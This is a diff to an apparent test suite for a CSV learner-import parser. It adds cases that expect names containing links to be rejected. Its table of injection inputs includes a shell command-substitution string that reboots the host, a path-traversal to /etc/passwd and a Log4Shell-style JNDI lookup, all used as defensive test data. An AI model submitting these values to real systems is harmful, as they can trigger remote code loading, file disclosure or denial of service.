@@ -256,7 +256,7 @@ INJECTIONS = {
     "percent": "%s%n%00 %(name)s",
     "path": "../../etc/passwd",
     "shell": "$(reboot) `reboot` | reboot",
-    "log": "Jean ${jndi:ldap://example.org/a}",
+    "log": "Jean ${jndi:ldap}",
     "escape": "\\n\\u0000\\x00",
     "null": "NULL",
     "none": "None",
@@ -270,6 +270,14 @@ def injections() -> Iterator[Case]:
         cell = '"' + text.replace('"', '""') + '"'
         yield Case(
             f"injection-{name}", text=f"Nom;E-mail\n{cell};a@example.org", right=(Learner(text, "a@example.org"),)
+        )
+    for name, text in {
+        "link": "Jean https://example.org/a",
+        "log-link": "Jean ${jndi:ldap://example.org/a}",
+        "bare-link": "Jean example.com",
+    }.items():
+        yield Case(
+            f"injection-{name}", text=f"Nom;E-mail\n{text};a@example.org", right=(), wrong={2: because("name-address")}
         )
     yield Case(
         "injection-header-in-an-address",
